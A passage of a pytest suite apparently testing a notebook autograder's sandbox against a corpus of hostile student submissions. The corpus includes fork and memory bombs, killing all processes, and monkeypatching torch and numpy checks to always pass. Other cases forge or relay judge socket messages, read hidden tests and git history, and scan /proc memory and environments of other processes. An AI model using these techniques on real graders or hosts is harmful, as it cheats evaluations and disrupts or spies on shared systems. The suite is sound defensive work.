            for _ in range(_struct.unpack(">I", count)[0]):
                length = _read(theirs, 8)
                blobs += length + _read(theirs, _struct.unpack(">Q", length)[0])
            judge.sendall(size + header + count + blobs)
            if not injected and _json.loads(header).get("type") == "checkpoint":
                judge.sendall(_frame(_FORGED))
                injected = True
    finally:
        _os._exit(0)
theirs.close()
_os.close(upstream)
_os.dup2(ours.fileno(), channel)
ours.close()
print("RELAY IN PLACE")
'''

# The runner's replies, one byte every 2 seconds: the deadline is the whole message's.
WIRE_DRIBBLE = '''
import time, autograder.grading.wire as wire
_real_send = wire.send

class _Capture:
    def __init__(self):
        self.data = b""
    def sendall(self, data):
        self.data += bytes(data)

def _dribble(sock, header, blobs=None):
    capture = _Capture()
    _real_send(capture, header, blobs)
    for byte in capture.data:
        sock.sendall(bytes([byte]))
        time.sleep(2)

def _send(sock, header, blobs=None):
    if _dribbling(header):
        return _dribble(sock, header, blobs)
    return _real_send(sock, header, blobs)

wire.send = _send
'''
WIRE_DRIBBLE_REPLY = WIRE_DRIBBLE + '''
def _dribbling(header):
    return header.get("type") == "reply"
'''
# The message after a checkpoint (the next cell's), dribbled: that message, too, is due at the
# cell deadline, not at the end of the submission.
WIRE_DRIBBLE_AFTER_CHECKPOINT = WIRE_DRIBBLE + '''
_checkpoints = []

def _dribbling(header):
    if header.get("type") == "checkpoint":
        _checkpoints.append(header.get("question"))
    return header.get("type") == "cell" and bool(_checkpoints)
'''

# Messages that are well framed but malformed inside. A student's process controls its runner,
# so it can send anything; the judge must call it a protocol violation, not fail.
WIRE_DEEP_JSON = '''
import struct, autograder.grading.wire as wire
_real_send = wire.send

def _send(sock, header, blobs=None):
    if header.get("type") != "done":
        return _real_send(sock, header, blobs)
    body = b"[" * 100000 + b"]" * 100000
    sock.sendall(struct.pack(">I", len(body)) + body + struct.pack(">I", 0))

wire.send = _send
print("DEEP JSON READY")
'''
WIRE_DONE_NOT_A_LIST = '''
import autograder.grading.wire as wire
_real_send = wire.send

def _send(sock, header, blobs=None):
    if header.get("type") == "done":
        header = {**header, "errors": 5}
    return _real_send(sock, header, blobs)

wire.send = _send
'''
WIRE_AMBIENT_OVERFLOW = '''
import autograder.grading.wire as wire
_real_capture = wire.capture_ambient

def _capture(*args, **kwargs):
    state = _real_capture(*args, **kwargs)
    numpy_state = state["numpy"]
    state["numpy"] = (numpy_state[0], numpy_state[1], 10 ** 30, 0, 0.0)
    return state

wire.capture_ambient = _capture
'''
WIRE_HUGE_LENGTH = WIRE + '''
_os.write(_socket_fds()[0], _struct.pack(">I", 0xFFFFFFF0) + b"{")
'''
# A lone surrogate in an error message: legal in JSON ("\\ud800"), not in UTF-8 text.
# One 16 MiB blob, named by 60 tensors of the first reply that holds a tensor: 960 MiB if the
# judge built each (its memory cap is 1 GiB over what it maps at start).
WIRE_BLOB_NAMED_MANY_TIMES = '''
import autograder.grading.wire as wire
_real_send = wire.send

def _send(sock, header, blobs=None):
    value = header.get("value")
    if header.get("type") == "reply" and isinstance(value, dict) and value.get("$") == "tensor":
        blobs = [*(blobs or []), bytes(16 << 20)]
        node = {**value, "dtype": "float32", "shape": [4 << 20], "blob": len(blobs) - 1,
                "device": {"type": "cpu", "index": None}}
        header = {**header, "value": [{**node, "oid": i} for i in range(60)]}
    return _real_send(sock, header, blobs)

wire.send = _send
'''
WIRE_LONE_SURROGATE = 'raise ValueError("\\ud800 is not text")\n'

# --- 5. hidden source in memory ---------------------------------------------------------------

# While the tests run (q4's describe): every object the collector tracks and the strings and
# code they hold, every thread's frames, this process's own anonymous memory, and the other
# processes' memory (the judge's among them).
MEMORY_SEARCH = NEEDLE + f'''
import gc, os, sys, time, types
_searched = []

def _search():
    found, where = [], {{"objects": 0, "frames": 0, "bytes": 0, "denied": 0, "read": 0}}
    deadline = time.monotonic() + 2.5  # inside a call the tests make: it has a deadline
    def look(value):
        if type(value) is str and _NEEDLE.search(value):
            found.append(value)
        elif type(value) is bytes and _NEEDLE_BYTES.search(value):
            found.append(value.decode(errors="replace"))
        elif type(value) is types.CodeType:
            for const in value.co_consts:
                look(const)
    for frame in sys._current_frames().values():
        while frame is not None:
            where["frames"] += 1
            look(frame.f_code)
            for value in list(frame.f_locals.values()):
                look(value)
            frame = frame.f_back
    for obj in gc.get_objects():
        where["objects"] += 1
        if where["objects"] % 10000 == 0 and time.monotonic() > deadline - 1.5:
            break
        values = obj.values() if type(obj) is dict else obj if type(obj) in (list, tuple) \\
            else ()
        for value in list(values):
            look(value)
        look(obj)
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if not fields[1].startswith("rw") or len(fields) > 5 and fields[5].startswith("/"):
            continue
        for at in range(start, end, 1 << 24):
            if time.monotonic() > deadline - 0.5:
                break
            data = ctypes.string_at(at, min(end, at + (1 << 24) + 4096) - at)
            where["bytes"] += len(data)
            for match in _NEEDLE_BYTES.finditer(data):
                found.append(data[match.start():match.start() + 2000].decode(errors="replace"))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid() or time.monotonic() > deadline:
            continue
        for name in ("mem", "environ", "cmdline", "maps"):
            try:
                with open(f"/proc/{{pid}}/{{name}}", "rb") as handle:
                    data = handle.read(1 << 20)
                where["read"] += 1
                for match in _NEEDLE_BYTES.finditer(data):
                    found.append(data[match.start():match.start() + 2000].decode("latin-1"))
            except OSError:
                where["denied"] += 1
    return found, where

def describe(t):
    if not _searched:
        found, where = _search()
        _searched.append(where)
        print("MEMORY SEARCHED", where, "FOUND", len(found))
        if found:
            _leak(found)
    return {WRONG_DESCRIBE}
'''


@dataclass(frozen=True)
class Case:
    name: str
    code: str
    # where the hostile cell goes: "top" (after the imports), "end", "after:qN" (after qN's
    # answer cell: in force when qN is judged) or "qN" (it replaces qN's answer cell)
    where: str = "top"
    statuses: tuple[str, ...] = ()  # allowed statuses; () = any
    ran: str = ""  # text the log must contain: proof the hostile code ran
    says: str = ""  # text the result's message must contain
    seconds: float = 0.0  # the most the submission may take (0: no limit checked)
    more: tuple[tuple[str, str], ...] = ()  # further hostile cells: (where, code)
    bug: str = ""  # an engine weakness: the case is xfail(strict=True) with this reason


# Garbage on the channel: the judge may read it as a protocol violation, or the process dies.
GARBAGE = ("tampered", "crashed")

CASES = [
    # --- the old corpus -----------------------------------------------------------------------
    Case("h01-rewrite-test-files", REWRITE_TESTS, statuses=("graded",), ran="REWRITE DONE"),
    Case("h02-patch-otter-runners", PATCH_OTTER, statuses=("graded",), ran="PATCHED OTTER"),
    Case("h03-patch-torch-equal", "import torch\ntorch.equal = lambda *args, **kwargs: True",
         statuses=("graded",)),
    Case("h04-patch-torch-allclose",
         "import torch\ntorch.allclose = lambda *args, **kwargs: True", statuses=("graded",)),
    Case("h05-patch-assert-close",
         "import torch.testing\ntorch.testing.assert_close = lambda *args, **kwargs: None",
         statuses=("graded",)),
    Case("h06-patch-manual-seed", "import torch\ntorch.manual_seed = lambda seed: None",
         statuses=("graded",)),
    Case("h07-patch-cuda-available", "import torch\ntorch.cuda.is_available = lambda: True",
         statuses=("graded",)),
    Case("h08-patch-tensor-eq",
         "import torch\n"
         "torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)",
         statuses=("graded",)),
    Case("h09-patch-tensor-all",
         "import torch\ntorch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)",
         statuses=("graded",)),
    Case("h10-patch-isinstance",
         "import builtins, torch\n_real = builtins.isinstance\n"
         "builtins.isinstance = lambda obj, kind: True if kind is torch.Tensor "
         "else _real(obj, kind)"),
    Case("h11-patch-numpy-assert-allclose",
         "import numpy.testing\nnumpy.testing.assert_allclose = lambda *args, **kwargs: None",
         statuses=("graded",)),
    Case("h12-patch-checks-assert-tensor",
         "import autograder.kit.checks as checks\n"
         "checks.assert_tensor = lambda *args, **kwargs: None\n"
         "checks.assert_shape = lambda *args, **kwargs: None", statuses=("graded",)),
    Case("h13-fake-checks-module",
         "import sys, types\nfake = types.ModuleType('autograder.kit.checks')\n"
         "fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)\n"
         "sys.modules['autograder.kit.checks'] = fake", statuses=("graded",)),
    Case("h14-fake-grader",
         "import otter\nclass FakeGrader:\n"
         "    def check(self, *args, **kwargs):\n        return 'All tests passed!'\n"
         "    def check_all(self, *args, **kwargs):\n        return 'All tests passed!'\n"
         "    def export(self, *args, **kwargs):\n        return None\n"
         "    def __getattr__(self, name):\n        return lambda *args, **kwargs: 100\n"
         "grader = FakeGrader()\notter.Notebook = FakeGrader\nprint('FAKE GRADER')",
         where="end", statuses=("graded",), ran="FAKE GRADER"),
    Case("h15-write-fake-results", WRITE_FAKE_RESULTS, where="end", statuses=("graded",),
         ran="/autograder/results"),
    Case("h16-read-hidden-files", READ_HIDDEN_FILES, statuses=("graded",), ran="SEARCHED"),
    Case("h17-read-hidden-git", READ_HIDDEN_GIT, statuses=("graded",), ran="GIT-SEARCHED"),
    Case("h18-exfiltrate-at-test-time", EXFILTRATE_AT_TEST_TIME, where="q4",
         statuses=("graded",), ran="EXFIL FOUND"),
    Case("h19-network", NETWORK, statuses=("graded",), ran="NET 1.1.1.1:80"),
    Case("h20-infinite-loop", "while True:\n    pass", statuses=("timeout",),
         says="longer than", seconds=QUICK),
    Case("h21-memory-bomb-torch",
         "import torch\nbomb = torch.empty(50 * 2**30 // 4)\nbomb.fill_(1.0)"),
    Case("h22-memory-bomb-bytearray", "bomb = bytearray(50 * 2**30)"),
    Case("h23-memory-creep",
         "import torch\nchunks = []\nwhile True:\n"
         "    chunks.append(torch.ones(64 * 2**20 // 4))"),
    Case("h24-daemon-escape",
         "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
         "        while True:\n            time.sleep(0.1)\n    os._exit(0)\n"
         "print('DAEMON STARTED')", statuses=("graded",), ran="DAEMON STARTED"),
    # Paced (at most 10 MB/s, whatever the CPU), so that it runs into the cell's time limit.
    Case("h25-print-flood",
         "import time\nwhile True:\n    print('x' * 10000)\n    time.sleep(0.001)",
         statuses=("timeout",), says="longer than", seconds=QUICK),
    Case("h26-print-gigabytes",
         "for _ in range(1500):\n    print('x' * 1_000_000)", statuses=("graded",)),
    Case("h27-print-20mb", "for _ in range(2000):\n    print('x' * 10_000)",
         statuses=("graded",), ran="xxxxxxxxxx"),
    Case("h29-os-exit", "import os\nos._exit(0)", statuses=("crashed",)),
    Case("h30-kill-self", "import os\nos.kill(os.getpid(), 9)", statuses=("crashed",)),
    Case("h31-kill-everything",
         "import os\nfor pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
         "    if pid not in (1, os.getpid()):\n        try:\n            os.kill(pid, 9)\n"
         "        except OSError:\n            pass\nos.kill(-1, 9)\nprint('STILL ALIVE')"),
    Case("h32-sys-exit", "import sys\nsys.exit()", statuses=("graded",)),
    Case("h33-keyboard-interrupt", "raise KeyboardInterrupt", statuses=("graded",)),
    Case("h34-thread-writes-socket", WIRE + '''
import threading, time
def pester():
    while True:
        for fd in _socket_fds():
            try:
                _os.write(fd, _frame(_FORGED))
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=pester, daemon=True).start()
''', statuses=GARBAGE),
    Case("h35-forged-result-on-fd", WIRE + '''
for fd in _socket_fds():
    try:
        _os.write(fd, _frame(_FORGED))
    except OSError:
        pass
''', statuses=GARBAGE),
    # Says it is done before any question was judged, then waits for tests to arrive.
    Case("h36-forge-protocol", WIRE + '''
channel = _socket.socket(fileno=_os.dup(_socket_fds()[0]))
channel.sendall(_frame({"type": "done", "errors": [], "log": ""}))
channel.settimeout(3)
try:
    size = _struct.unpack(">I", channel.recv(4, _socket.MSG_WAITALL))[0]
    print("GOT", channel.recv(size, _socket.MSG_WAITALL)[:200])
except OSError:
    pass
_os._exit(0)
''', statuses=GARBAGE),
    # Rewrites what this process sends: it only ever sends its own answers.
    Case("h37-patch-socket-sendall", '''
import json, socket, struct
_real_sendall = socket.socket.sendall
def _sendall(self, data, *args):
    try:
        size = struct.unpack(">I", bytes(data[:4]))[0]
        message = json.loads(bytes(data[4:4 + size]))
        for question in message.get("questions", []):
            for check in question["checks"]:
                check["outcome"] = "passed"
        body = json.dumps(message).encode()
        data = struct.pack(">I", len(body)) + body + bytes(data[4 + size:])
    except (ValueError, KeyError, TypeError):
        pass
    return _real_sendall(self, data, *args)
socket.socket.sendall = _sendall
''', statuses=("graded",)),
    Case("h38-patch-json-dumps", '''
import json
_real_dumps = json.dumps
def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict):
        for question in obj.get("questions", []):
            for check in question["checks"]:
                check["outcome"] = "passed"
    return _real_dumps(obj, *args, **kwargs)
json.dumps = _dumps
''', statuses=("graded",)),
    # The judge's module is imported in this process too (the worker imports it once): patching
    # it here changes nothing in the judge, a process of its own.
    Case("h39-patch-judge-module", ALL_PASSED + '''
import autograder.grading.judge as judge
judge._run_check = lambda function, session: ("passed", "")
judge.judge_question = lambda question, session: {"name": question.name, "checks": [
    {"name": name, "outcome": "passed", "message": ""} for name in question.checks]}
judge.converse = lambda *args, **kwargs: {"status": "graded", "questions": _all_passed()}
judge.checks.assert_tensor = judge.checks.assert_value = lambda *args, **kwargs: None
print("PATCHED JUDGE MODULE")
''', statuses=("graded",), ran="PATCHED JUDGE MODULE"),
    Case("h40-raw-thread-left-running",
         "import _thread, time\n\ndef spin():\n    while True:\n        time.sleep(0.05)\n\n"
         "_thread.start_new_thread(spin, ())\nprint('THREAD LEFT RUNNING')",
         statuses=("graded",), ran="THREAD LEFT RUNNING"),
    Case("h41-vandalize", VANDALIZE, statuses=("graded",), ran="VANDAL DONE"),
    # Its parent is its PID namespace's first process (root-owned): the zygote is not in
    # sight, and its process group is not either (getpgid says 0: killpg(0) would be its own).
    Case("h42-kill-zygote",
         "import os\ntry:\n    os.kill(os.getppid(), 9)\n    print('KILLED')\n"
         "except OSError as error:\n    print('DENIED', error)\n"
         "group = os.getpgid(os.getppid())\nif group:\n    os.killpg(group, 9)\n"
         "print('PARENT GROUP', group)\n", ran="DENIED"),
    # Its orphans linger (see test_fork_works_after_a_fork_bomb): graded late in the batch.
    Case("h43-fork-bomb-raw", "import os\nwhile True:\n    os.fork()"),
    Case("h44-rewrite-python-itself", PYTHON_VANDAL, statuses=("graded",),
         ran="VANDAL PYTHON DONE"),
    # --- 1. code that runs while the tests run ----------------------------------------------
    Case("e1a-frames-reach-runner", RUN_FRAMES, where="q4", statuses=("tampered",),
         says="not the reply"),
    Case("e1b-setprofile-forges", RUN_SETPROFILE, where="q4", statuses=("tampered",),
         says="not the reply"),
    Case("e1c-settrace-got-is-expected", RUN_SETTRACE, where="q4", statuses=("graded",),
         ran="TRACED: assert_value(1, 2) passes here", more=(("end", RUN_SETTRACE_END),)),
    Case("e1d-sigalrm-setitimer", RUN_SIGALRM, where="q4", statuses=("graded",),
         ran="ALARMS", more=(("end", RUN_SIGALRM_END),)),
    Case("e1e-gc-callback", RUN_GC_CALLBACK, where="q4", statuses=("graded",),
         ran="GC CALLBACK RAN", more=(("end", RUN_GC_CALLBACK_END),)),
    Case("e1f-audit-hook", RUN_AUDIT_HOOK, statuses=("graded",), ran="AUDIT FOUND 0",
         more=(("end", RUN_AUDIT_HOOK_END),)),
    # --- 2. state the old integrity snapshot did not cover ------------------------------------
    Case("e2a-function-internals", STATE_INTERNALS, where="after:q1", statuses=("graded",),
         ran="INTERNALS CHANGED"),
    Case("e2b-bytecode-in-place", STATE_BYTECODE, where="after:q1", statuses=("graded",),
         ran="passes here"),
    Case("e2c-module-class-swapped", STATE_MODULE_CLASS, where="after:q1",
         statuses=("graded",), ran="MODULE CLASS SWAPPED True"),
    Case("e2d-reference-libraries", STATE_LIBRARIES, where="after:q7", statuses=("graded",),
         ran="LIBRARIES REPLACED [[0.0, 0.0], [0.0, 0.0]]"),
    Case("e2e-function-mode-left-on", STATE_FUNCTION_MODE, where="after:q1",
         statuses=("graded",), ran="FUNCTION MODE ENTERED True True"),
    Case("e2f-dispatch-mode-left-on", STATE_DISPATCH_MODE, where="after:q1",
         ran="DISPATCH MODE ENTERED True"),
    Case("e2g-aten-kernels-replaced", STATE_ATEN_KERNELS, where="after:q1",
         statuses=("graded",), ran="ATEN KERNELS REPLACED True True"),
    Case("e2h-default-device-meta", STATE_DEFAULT_DEVICE, where="after:q1",
         statuses=("graded",), ran="DEFAULT DEVICE meta"),
    # --- 3. objects that lie to the checks ----------------------------------------------------
    Case("e3a-always-equal-tuple", LIE_ALWAYS_EQUAL, where="q4", statuses=("graded",),
         ran="LYING"),
    Case("e3b-lying-scalars", LIE_SCALARS, where="q4", statuses=("graded",), ran="LYING",
         more=(("after:q8", LIE_SCALARS_Q8),)),
    Case("e3c-list-claims-tuple", LIE_CLAIMS_TUPLE, where="q4", statuses=("graded",),
         ran="LYING"),
    Case("e3d-array-false-shape", LIE_FALSE_SHAPE, where="q16", statuses=("graded",),
         ran="LYING"),
    Case("e3e-false-type-names", LIE_TYPE_NAMES, where="q4", statuses=("graded",),
         ran="LYING", more=(("q16", LIE_TYPE_NAMES_Q16),)),
    Case("e3f-tensor-subclass-on-meta", LIE_TENSOR_SUBCLASS, where="q16",
         statuses=("graded",), ran="LYING: a tensor that says it is on meta"),
    Case("e3g-raises-check-skipped", LIE_SKIP, where="q4", statuses=("graded",),
         ran="RAISING CheckSkipped", more=(("q16", LIE_SKIP_Q16),)),
    # --- 4. the channel itself ------------------------------------------------------------------
    Case("e4a-dup2-relay-injects", WIRE_RELAY, statuses=("tampered",), says="not the reply"),
    Case("e4b-dribbled-reply", WIRE_DRIBBLE_REPLY, statuses=("timeout",),
         says=f"longer than {LIMITS.cell_seconds:g} s", seconds=QUICK),
    Case("e4c-dribbled-after-checkpoint", WIRE_DRIBBLE_AFTER_CHECKPOINT, statuses=("timeout",),
         seconds=QUICK),
    Case("e4d-deep-json", WIRE_DEEP_JSON, statuses=GARBAGE),
    Case("e4e-done-errors-not-a-list", WIRE_DONE_NOT_A_LIST, statuses=GARBAGE),
    Case("e4f-ambient-overflow", WIRE_AMBIENT_OVERFLOW, statuses=GARBAGE),
    Case("e4g-huge-declared-length", WIRE_HUGE_LENGTH, statuses=GARBAGE),
    Case("e4i-blob-named-many-times", WIRE_BLOB_NAMED_MANY_TIMES, statuses=("tampered",),
         says="named many times"),
    # --- 5. hidden source in memory ---------------------------------------------------------
    Case("e5a-memory-search-at-test-time", MEMORY_SEARCH, where="q4", statuses=("graded",),
         ran="FOUND 0"),
]
CASE_NAMES = [c.name for c in CASES]

LEFTOVER_DIRS = ("/tmp", "/var/tmp", "/dev/shm")

# Graded one after the other on ONE worker (one sandbox uid): what a submission leaves behind
# meets the next one.
CENSUS = """
import subprocess
others = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        status = open(f"/proc/{pid}/status").read()
    except OSError:
        continue
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    if int(fields["Uid"].split()[0]) == os.getuid() and int(pid) != os.getpid():
        others.append(fields["State"].strip()[:1])
print("OTHER TASKS OF MY UID", len(others), sorted(set(others)))
try:
    subprocess.run(["true"], check=True)
    print("FORK OK")
except OSError as error:
    print("FORK FAILED", error)
"""
SERIAL_CASES = [
    Case("s1-fork-bomb",
         "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
         statuses=("timeout",)),
    Case("s2-fork-after-bomb", CENSUS, statuses=("graded",), ran="OTHER TASKS"),
    Case("s3-leave-note",
         "for folder in ('/tmp', '/var/tmp', '/dev/shm'):\n"
         "    with open(f'{folder}/hostile-note-@TOKEN@', 'w') as note:\n"
         "        note.write('answers of s3')\n", statuses=("graded",)),
    Case("s4-read-note",
         "for folder in ('/tmp', '/var/tmp', '/dev/shm'):\n"
         "    try:\n"
         "        print('NOTE FOUND', open(f'{folder}/hostile-note-@TOKEN@').read())\n"
         "    except OSError:\n"
         "        print('NO NOTE')\n", statuses=("graded",), ran="NOTE"),
]


def _base_notebook(release) -> dict:
    """The reference solution with WRONG_ANSWERS, carrying the student release's metadata (a
    student's notebook holds the public tests only)."""
    nb = json.loads(release.solution.read_text())
    nb["metadata"] = json.loads(release.student_notebook.read_text())["metadata"]
    for question, code in WRONG_ANSWERS.items():
        nb["cells"][answer_cell_index(nb, question)]["source"] = code
    return nb


def _hostile_notebook(base: dict, case: Case, placeholders: dict[str, str]) -> dict:
    nb = json.loads(json.dumps(base))
    prelude = PRELUDE.replace("@COMM@", f"{COMM_PREFIX}{case.name[:12]}")
    inserts = []
    for number, (where, code) in enumerate(((case.where, case.code), *case.more)):
        code = prelude + code
        for key, value in placeholders.items():
            code = code.replace(f"@{key}@", value)
        cell = {"cell_type": "code", "id": f"hostile-{number}-{case.name}", "metadata": {},
                "execution_count": None, "outputs": [], "source": code}
        if where.startswith("q"):
            nb["cells"][answer_cell_index(nb, where)]["source"] = code
        else:
            inserts.append((where, cell))
    for where, cell in inserts:
        if where == "top":
            imports = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code" and
                           "import torch" in "".join(c["source"]))
            nb["cells"].insert(imports + 1, cell)
        elif where == "end":
            nb["cells"].append(cell)
        else:
            nb["cells"].insert(answer_cell_index(nb, where.removeprefix("after:")) + 1, cell)
    return nb


def _hostile_processes() -> list[str]:
    """Live processes the hostile batches left behind, whatever their uid: named by a hostile
    cell (COMM_PREFIX), or started under our zygotes (BATCH_ENV in their environment)."""
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            comm = Path(f"/proc/{pid}/comm").read_text().strip()
            status = Path(f"/proc/{pid}/status").read_text()
            environ = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        uid = int(fields.get("Uid", "-1").split()[0])
        state = fields.get("State", "").strip()[:1]
        ours = BATCH_ENV.encode() + b"=" in environ and int(pid) != os.getpid()
        if state != "Z" and (comm.startswith(COMM_PREFIX) or ours):
            left.append(f"pid {pid} uid {uid} {comm} {state}")
    return left


def _surviving_processes(seconds: float = 30.0) -> list[str]:
    """``_hostile_processes`` that are still there after ``seconds``: the grader may return a
    batch's last results while a worker still kills and sweeps that submission's processes
    (a second or more on a loaded machine); a process that survived is there for good."""
    deadline = time.monotonic() + seconds
    while (left := _hostile_processes()) and time.monotonic() < deadline:
        time.sleep(0.5)
    return left


def _wait_for_orphans(seconds: float = 5.0) -> None:
    """Give PID 1 time to reap a fork bomb's zombies, so that the next grading run (ours or
    anyone's) that gets the same sandbox uid does not inherit them (see
    test_fork_works_after_a_fork_bomb)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        zombies = 0
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                status = Path(f"/proc/{pid}/status").read_text()
                uid = int(status.split("Uid:", 1)[1].split()[0])
                zombies += "State:\tZ" in status and uid in SANDBOX_UIDS
        if not zombies:
            return
        time.sleep(0.1)


@contextlib.contextmanager
def _grading_env() -> Iterator[None]:
    """cwd = the repository (the grader hides <cwd>/assignments and <cwd>/dist) and a marker in
    the environment every process of the batch inherits."""
    os.environ[BATCH_ENV] = secrets.token_hex(4)
    try:
        with contextlib.chdir(ROOT):
            yield
    finally:
        del os.environ[BATCH_ENV]


def _hidden_markers(bundle: Path) -> list[str]:
    markers = [f"def {check.name}(" for question in load_bundle(bundle).questions
               for check in question.checks if check.hidden]
    assert markers, "the bundle has no hidden checks"
    return markers


def _leaks(markers: list[str], text: str) -> list[str]:
    """Hidden markers in ``text``, as they are or inside a LEAK[base64] a hostile cell sent."""
    texts = [text]
    for payload in re.findall(r"LEAK\[([A-Za-z0-9+/]*)", text):  # perhaps cut short
        with contextlib.suppress(binascii.Error, ValueError):
            texts.append(base64.b64decode(payload[:len(payload) // 4 * 4]).decode(
                errors="replace"))
    return sorted({marker for marker in markers for t in texts if marker in t})


@dataclass
class Batch:
    arena: Path
    out: Path
    results: dict
    seconds: float
    markers: list[str]
    listener: socket.socket
    leftovers: list[str]
    cwd_before: str
    processes_left: list[str]
    base: dict


@pytest.fixture(scope="module")
def batch(releases):
    release = releases[ASSIGNMENT]
    arena = Path(tempfile.mkdtemp(prefix="hostile-arena-"))
    token = secrets.token_hex(4)
    leftovers = [f"{folder}/hostile-leftover-{token}" for folder in LEFTOVER_DIRS]
    listener = socket.socket()
    try:
        os.chmod(arena, 0o777)
        bundle_dir = arena / "bundle"
        bundle_dir.mkdir()
        bundle = shutil.copy2(release.bundle, bundle_dir / "autograder.zip")
        shutil.copy2(release.solution, bundle_dir / "solution.ipynb")
        for path in (bundle_dir, *bundle_dir.iterdir()):
            os.chmod(path, 0o755 if path.is_dir() else 0o644)
        submissions, out = arena / "submissions", arena / "out"
        for folder in (submissions, out):
            folder.mkdir()
            os.chmod(folder, 0o777)
        for sentinel in (arena / "sentinel.txt", out / "sentinel.txt"):
            sentinel.write_text("sentinel")
            os.chmod(sentinel, 0o666)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        markers = _hidden_markers(Path(bundle))
        base = _base_notebook(release)
        placeholders = {
            "ARENA": str(arena), "OUT": str(out), "BUNDLE": str(bundle),
            "SOLUTION": str(bundle_dir / "solution.ipynb"), "REPO": str(ROOT),
            "PORT": str(listener.getsockname()[1]), "LEFTOVERS": repr(leftovers),
            "GRADER_PID": str(os.getpid()),
        }
        for case in CASES:
            notebook = _hostile_notebook(base, case, {**placeholders, "STEM": case.name})
            (submissions / f"{case.name}.ipynb").write_text(json.dumps(notebook))
        for stem in HONEST:
            shutil.copy2(release.solution, submissions / f"{stem}.ipynb")
        (submissions / f"{CONTROL}.ipynb").write_text(json.dumps(base))
        for path in submissions.iterdir():
            os.chmod(path, 0o666)

        cwd_before = os.getcwd()
        # The grader itself never imports otter; read its files once so that a case's
        # `import otter` is timed on the CPU, not on a fresh clone's cold disk.
        subprocess.run([sys.executable, "-c", "import otter.test_files"], check=True,
                       capture_output=True)
        began = time.monotonic()
        with _grading_env():
            results = grade_submissions(Path(bundle), [submissions], workers=2, limits=LIMITS,
                                        out_dir=out)
        seconds = time.monotonic() - began
        _wait_for_orphans()
        yield Batch(arena=arena, out=out, results={r.submission: r for r in results},
                    seconds=seconds, markers=markers, listener=listener, leftovers=leftovers,
                    cwd_before=cwd_before, processes_left=_surviving_processes(), base=base)
    finally:
        listener.close()
        for path in leftovers:
            with contextlib.suppress(OSError):
                os.remove(path)
        shutil.rmtree(arena, ignore_errors=True)


@pytest.fixture(scope="module")
def serial_batch(releases, tmp_path_factory):
    release = releases[ASSIGNMENT]
    token = secrets.token_hex(4)
    notes = [f"{folder}/hostile-note-{token}" for folder in LEFTOVER_DIRS]
    submissions = tmp_path_factory.mktemp("serial")
    base = _base_notebook(release)
    for case in SERIAL_CASES:
        notebook = _hostile_notebook(base, case, {"TOKEN": token})
        (submissions / f"{case.name}.ipynb").write_text(json.dumps(notebook))
    try:
        with _grading_env():
            results = grade_submissions(release.bundle, [submissions], workers=1,
                                        limits=SERIAL_LIMITS)
        _wait_for_orphans()
        yield {r.submission: r for r in results}
    finally:
        for path in notes:
            with contextlib.suppress(OSError):
                os.remove(path)


def _case_param(case: Case) -> object:
    marks = [pytest.mark.xfail(strict=True, reason=case.bug)] if case.bug else []
    return pytest.param(case, id=case.name, marks=marks)


def _summary(result) -> str:
    scores = " ".join(f"{q.name}={q.score:g}" for q in result.questions if q.score)
    return (f"{result.status} {result.score:g}/{result.possible:g} in {result.duration:.1f} s "
            f"({scores}): {result.message[:600]}")


def _earns_no_more_than_control(result, control) -> None:
    summary = f"{_summary(result)}\ncontrol: {_summary(control)}"
    assert result.score <= control.score, summary
    assert result.possible == control.possible, f"checks were skipped: {summary}"
    by_name = {q.name: q for q in control.questions}
    for question in result.questions:
        assert question.score <= by_name[question.name].score, f"{question.name}: {summary}"
    skipped = [c.name for q in result.questions for c in q.checks if c.outcome == "skipped"]
    assert not skipped, f"skipped {skipped}: {summary}"


def _check_case(result, case: Case, control, markers: list[str], outputs: str) -> None:
    _earns_no_more_than_control(result, control)
    summary = _summary(result)
    if case.statuses:
        assert result.status in case.statuses, summary
    if case.ran:
        assert case.ran in result.log, f"the hostile code did not run: {summary}\n" \
                                      f"{result.log[-1500:]}"
    if case.says:
        assert case.says in result.message, summary
    if case.seconds:
        assert result.duration < case.seconds, summary
    leaked = _leaks(markers, result.log + result.message + outputs)
    assert not leaked, f"hidden test source reached the outputs: {leaked}"


@pytest.mark.parametrize("case", [_case_param(c) for c in CASES])
def test_hostile_submission_earns_no_more_than_the_control(batch, case):
    if case.name == "h17-read-hidden-git" and not (ROOT / ".git").is_dir():
        pytest.skip("the repository is not a git checkout: no history to read")
    feedback = (batch.out / "feedback" / f"{case.name}.md").read_text()
    report = (batch.out / "results" / f"{case.name}.json").read_text()
    _check_case(batch.results[case.name], case, batch.results[CONTROL], batch.markers,
                feedback + report)


def test_leak_detector_sees_through_base64():
    """What a hostile cell raises with _leak, cut short as a check message is, still shows."""
    namespace: dict = {}
    exec(NEEDLE, namespace)
    with pytest.raises(AssertionError) as raised:
        namespace["_leak"](["x = 1\n" + "def " + "test_q9_hidden(a, b):\n    return a\n"])
    message = f"AssertionError: {str(raised.value)[:300]}"
    assert _leaks(["def test_q9_hidden("], message) == ["def test_q9_hidden("]
    assert _leaks(["def test_q9_hidden("], message.replace("LEAK[", "[")) == []


def test_control_is_partly_wrong(batch):
    """The base alone passes every check but the six its wrong answers fail: a cheat would
    show as a gain on those."""
    result = batch.results[CONTROL]
    assert result.status == "graded", result.message
    failed = {c.name for q in result.questions for c in q.checks if c.outcome != "passed"}
